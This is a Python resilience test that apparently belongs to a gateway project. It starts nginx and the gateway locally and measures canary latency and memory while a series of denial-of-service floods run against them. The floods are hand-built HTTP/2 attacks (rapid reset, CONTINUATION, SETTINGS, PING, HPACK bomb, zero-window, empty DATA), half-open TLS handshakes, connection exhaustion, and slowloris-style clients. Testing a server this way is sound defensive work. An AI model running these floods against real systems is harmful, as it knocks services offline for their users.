#!/usr/bin/env python3
"""What floods do to everybody else: a canary's latency and the gateway's memory while each of them runs.

    deploy/build && tests/load/floods.py [--only zero_window]

Every 100 ms a canary asks for a small page through the gateway, each time on a new connection. Each function below
whose name begins with `flood_` is one flood; it runs on as many connections as are given, again and again, until its
time is over. `slowhttptest` plays the three slow clients. Needs nginx, which is the API, and slowhttptest.

Fails, with a line for each reason, if a canary failed, if one in a hundred took longer than --most-p99, or if memory grew
by more than --most-growth from before the first flood to the peak of any.
"""

import argparse
import contextlib
import multiprocessing
import pathlib
import resource
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

ROOT = pathlib.Path(__file__).resolve().parents[2]

# Frame types and flags of RFC 9113.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


# --- floods: each is one connection's part, and returns when the gateway has had enough of it ---


def flood_half_open_handshakes(target: "Target") -> None:
    """A ClientHello that never comes to its end."""
    with target.connect(tls=True) as wire:
        wire.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        target.hold(wire)


def flood_rapid_reset(target: "Target") -> None:
    """CVE-2023-44487: requests that are cancelled as soon as they are made."""
    with target.http2() as wire:
        for stream in target.while_time(range(1, 200_001, 2)):
            wire.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_CANARY)
                         + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def flood_continuation(target: "Target") -> None:
    """CVE-2024-27316: a header block that never ends."""
    with target.http2() as wire:
        wire.sendall(frame(HEADERS, END_STREAM, 1, GET_CANARY))
        part = frame(CONTINUATION, 0, 1, literal("x-flood", "x" * 1000) * 10)
        for _ in target.while_time(range(100_000)):
            wire.sendall(part)


def flood_empty_continuation(target: "Target") -> None:
    """The same without a byte in it, which no limit on sizes would notice."""
    with target.http2() as wire:
        wire.sendall(frame(HEADERS, END_STREAM, 1, GET_CANARY))
        for _ in target.while_time(range(100_000)):
            wire.sendall(frame(CONTINUATION, 0, 1) * 100)


def flood_settings(target: "Target") -> None:
    """CVE-2019-9515: settings, each of which wants an acknowledgement that nobody reads."""
    with target.http2() as wire:
        for _ in target.while_time(range(1_000_000)):
            wire.sendall(frame(SETTINGS, 0, 0) * 500)


def flood_ping(target: "Target") -> None:
    """CVE-2019-9512."""
    with target.http2() as wire:
        for _ in target.while_time(range(1_000_000)):
            wire.sendall(frame(PING, 0, 0, bytes(8)) * 500)


def flood_hpack_bomb(target: "Target") -> None:
    """CVE-2016-6581: one large entry of the table, and a byte for each time that it is meant again."""
    bomb = GET_CANARY + literal("x", "y" * 4000, indexed=True) + b"\xbe" * 8000
    with target.http2() as wire:
        for stream in target.while_time(range(1, 20_001, 2)):
            wire.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb))


def flood_empty_data(target: "Target") -> None:
    """CVE-2019-9518: a body of frames with nothing in them."""
    with target.http2() as wire:
        wire.sendall(frame(HEADERS, END_HEADERS, 1, POST_CANARY))
        for _ in target.while_time(range(1_000_000)):
            wire.sendall(frame(DATA, 0, 1) * 500)


def flood_zero_window(target: "Target") -> None:
    """CVE-2019-9517: large answers are asked for, and there is never room for a byte of them."""
    with target.http2(settings={4: 0}) as wire:
        for stream in range(1, 200, 2):
            wire.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_LARGE))
        target.hold(wire, answer_pings=True)


def flood_connections(target: "Target") -> None:
    """Connections that never say a word, many more than the others: the gateway's bound on them is reached."""
    churn(target, said=b"")


def flood_idle_connections(target: "Target") -> None:
    """The same, each after a request that was answered: to be told from those that will ask again."""
    churn(target, said=b"GET /canary HTTP/1.1\r\nHost: localhost\r\n\r\n")


SLOW_CLIENTS = {
    "slowloris": ["-H", "-i", "1"],
    "slow body": ["-B", "-i", "1", "-s", "100000"],
    "slow read": ["-X", "-w", "1", "-y", "2", "-n", "1", "-z", "1", "-k", "3"],
}


# --- what they are made of ---


def churn(target: "Target", said: bytes) -> None:
    """Opens connections and keeps the last of them open. With 50 at it they come to more than `limits.connections`."""
    with contextlib.ExitStack() as open_ones:
        kept: list[socket.socket] = []
        for _ in target.while_time(range(1_000_000)):
            kept.append(open_ones.enter_context(target.connect()))
            if said:
                kept[-1].sendall(said)
                with contextlib.suppress(OSError):
                    kept[-1].recv(4096)
            if len(kept) > KEPT:
                kept.pop(0).close()


# The connections of one flooding thread.
KEPT = 250


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def integer(value: int, bits: int, first: int) -> bytes:
    """An integer as RFC 7541 section 5.1 has it."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((first | value,))
    coded, value = [first | most], value - most
    while value >= 128:
        coded.append(value % 128 + 128)
        value //= 128
    return bytes((*coded, value))


def literal(name: str, value: str, indexed: bool = False) -> bytes:
    """A field with its name, kept in the table or not (RFC 7541 section 6.2)."""
    parts = (integer(len(text), 7, 0) + text.encode() for text in (name, value))
    return bytes((0x40 if indexed else 0,)) + b"".join(parts)


def request(method: str, path: str) -> bytes:
    fields = ((":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path))
    return b"".join(literal(name, value) for name, value in fields)


GET_CANARY, POST_CANARY, GET_LARGE = request("GET", "/canary"), request("POST", "/canary"), request("GET", "/large")


class Target:
    """The gateway, for as long as the flood lasts."""

    def __init__(self, plain: int, tls: int, until: float) -> None:
        self.plain, self.tls, self.until = plain, tls, until

    def connect(self, tls: bool = False) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.tls if tls else self.plain), timeout=2)

    def http2(self, settings: dict[int, int] | None = None) -> socket.socket:
        wire = self.connect()
        payload = b"".join(struct.pack(">HI", *setting) for setting in (settings or {}).items())
        wire.sendall(PREFACE + frame(SETTINGS, 0, 0, payload))
        return wire

    def while_time(self, steps):
        for step in steps:
            if time.monotonic() > self.until:
                return
            yield step

    def hold(self, wire: socket.socket, answer_pings: bool = False) -> None:
        """Waits until the gateway closes, or the time is over."""
        wire.settimeout(0.5)
        while time.monotonic() < self.until:
            with contextlib.suppress(TimeoutError):
                received = wire.recv(65536)
                if not received:
                    return
                if answer_pings and len(received) == 17 and received[3] == PING:
                    wire.sendall(frame(PING, ACK, 0, received[9:]))


class Canary(threading.Thread):
    """Asks every 100 ms, and keeps how long each answer took."""

    def __init__(self, port: int, gateway: int) -> None:
        super().__init__(daemon=True)
        self.port, self.gateway, self.over = port, gateway, threading.Event()
        self.times: list[float] = []
        self.failures: list[str] = []
        self.memory = resident(gateway)

    def run(self) -> None:
        while not self.over.wait(0.1):
            begun = time.monotonic()
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/canary", timeout=10) as answer:
                    answer.read()
            except OSError as error:
                self.failures.append(str(error))
            self.times.append(time.monotonic() - begun)
            self.memory = max(self.memory, resident(self.gateway))

    def __exit__(self, *_) -> None:
        self.over.set()
        self.join()

    def __enter__(self) -> "Canary":
        self.start()
        return self


# --- the run ---


def main() -> int:
    options = parse_options()
    floods = {name.removeprefix("flood_").replace("_", " "): value
              for name, value in globals().items() if name.startswith("flood_")}
    chosen = [name for name in ["nothing", *SLOW_CLIENTS, *floods] if options.only in (None, name.replace(" ", "_"))]
    with tempfile.TemporaryDirectory() as directory, contextlib.ExitStack() as running:
        directory = pathlib.Path(directory)
        api, plain, tls, health = (free_port() for _ in range(4))
        start(running, ["nginx", "-c", nginx(directory, api), "-p", directory])
        gateway = start(running, [options.binary, "run", "-c", gateway_config(directory, plain, tls, health, api)])
        wait_for(f"http://127.0.0.1:{health}/readyz")
        print(f"{options.seconds} s each, {options.connections} connections, canary every 100 ms\n")
        calm, broken = resident(gateway.pid), []
        print("| flood | canary p50 | p99 | max | failed | RSS before | peak | after | connections made |")
        print("|---|---|---|---|---|---|---|---|---|")
        for name in chosen:
            before = resident(gateway.pid)
            target = Target(plain, tls, time.monotonic() + options.seconds)
            with Canary(plain, gateway.pid) as canary:
                made = attack(floods.get(name), SLOW_CLIENTS.get(name), target, options)
            time.sleep(2)
            ordered = sorted(canary.times)
            p50, p99 = (ordered[int((len(ordered) - 1) * share)] for share in (0.5, 0.99))
            broken += judge(name, canary, p99, calm, options)
            print(f"| {name} | {p50 * 1000:.0f} ms | {p99 * 1000:.0f} ms | {ordered[-1] * 1000:.0f} ms "
                  f"| {len(canary.failures)} of {len(ordered)} | {before:.0f} MiB | {canary.memory:.0f} MiB "
                  f"| {resident(gateway.pid):.0f} MiB | {made} |", flush=True)
            if gateway.poll() is not None:
                sys.exit(f"the gateway has ended: {gateway.returncode}")
    print("\n".join(["", *broken] if broken else ["", "every canary in time, and memory within its bound"]))
    return 1 if broken else 0


def judge(name: str, canary: "Canary", p99: float, calm: float, options: argparse.Namespace) -> list[str]:
    """What this flood did that none may do."""
    found = []
    if canary.failures:
        found.append(f"{name}: {len(canary.failures)} canaries failed, the first of {canary.failures[0]}")
    if p99 > options.most_p99:
        found.append(f"{name}: the canary's p99 is {p99:.2f} s, more than {options.most_p99} s")
    if canary.memory - calm > options.most_growth:
        found.append(f"{name}: memory grew by {canary.memory - calm:.0f} MiB, more than {options.most_growth} MiB")
    return found


def attack(flood, slow_client: list[str] | None, target: Target, options: argparse.Namespace) -> int:
    """Runs one flood until its time is over; gives the number of connections that it made."""
    if slow_client is not None:
        path = "large" if "-X" in slow_client else "canary"
        subprocess.run(["slowhttptest", *slow_client, "-c", str(options.connections), "-r", str(options.connections),
                        "-l", str(options.seconds), "-u", f"http://127.0.0.1:{target.plain}/{path}"],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
        return options.connections
    if flood is None:
        time.sleep(options.seconds)
        return 0
    made = multiprocessing.Value("i", 0)
    # In a process of its own, so that the canary does not wait for Python.
    flooding = multiprocessing.Process(target=all_together, args=(flood, target, options.connections, made))
    flooding.start()
    flooding.join()
    return made.value


def all_together(flood, target: Target, connections: int, made) -> None:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))

    def again_and_again() -> None:
        while time.monotonic() < target.until:
            with made.get_lock():
                made.value += 1
            # Being thrown out is what a flood expects.
            with contextlib.suppress(OSError):
                flood(target)

    threads = [threading.Thread(target=again_and_again) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def parse_options() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--binary", type=pathlib.Path, default=ROOT / "target/release/valgate")
    parser.add_argument("--seconds", type=int, default=10, help="of each flood")
    parser.add_argument("--connections", type=int, default=50, help="of each flood at a time")
    parser.add_argument("--most-p99", type=float, default=1.0, help="of the canary, in seconds")
    parser.add_argument("--most-growth", type=float, default=256, help="of the gateway's memory, in MiB")
    parser.add_argument("--only", help="one flood, such as rapid_reset")
    options = parser.parse_args()
    for program in ("nginx", "slowhttptest", "openssl"):
        if shutil.which(program) is None:
            sys.exit(f"{program} is needed and not installed")
    return options


def nginx(directory: pathlib.Path, port: int) -> pathlib.Path:
    (directory / "large").write_bytes(bytes(8 << 20))
    path = directory / "nginx.conf"
    path.write_text(
        f"""daemon off; worker_processes 1; pid {directory}/nginx.pid; error_log stderr crit;
events {{ worker_connections 20000; }}
http {{
  access_log off; client_body_temp_path {directory}/body; client_max_body_size 0;
  server {{
    listen 127.0.0.1:{port} backlog=4096;
    location = /canary {{ return 200 'ok'; }}
    location = /large {{ root {directory}; }}
  }}
}}
"""
    )
    return path


def gateway_config(directory: pathlib.Path, plain: int, tls: int, health: int, api: int) -> pathlib.Path:
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=localhost",
                    "-keyout", directory / "tls.key", "-out", directory / "tls.crt"], check=True, capture_output=True)
    path = directory / "valgate.yaml"
    path.write_text(
        f"""version: 1
workers: 1
access_log: off
log: {{ level: error }}
listeners:
  - {{ address: "127.0.0.1:{plain}", plaintext: true }}
  - address: 127.0.0.1:{tls}
    tls: {{ certificates: [{{ certificate: tls.crt, private_key: tls.key }}] }}
health: {{ address: "127.0.0.1:{health}" }}
upstreams: [{{ name: api, endpoints: ["http://127.0.0.1:{api}"] }}]
routes: [{{ match: {{ path: /** }}, public: true, upstream: api }}]
"""
    )
    return path


def start(running: contextlib.ExitStack, command: list) -> subprocess.Popen:
    process = subprocess.Popen([str(part) for part in command], stdout=subprocess.DEVNULL)
    running.callback(process.wait)
    running.callback(process.terminate)
    return process


def resident(process: int) -> float:
    """Resident memory in MiB."""
    status = pathlib.Path(f"/proc/{process}/status").read_text()
    return int(status.split("VmRSS:")[1].split()[0]) / 1024


def wait_for(url: str) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(url, timeout=1):
                return
        except OSError:
            time.sleep(0.1)
    sys.exit(f"{url} does not answer")


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


if __name__ == "__main__":
    sys.exit(main())
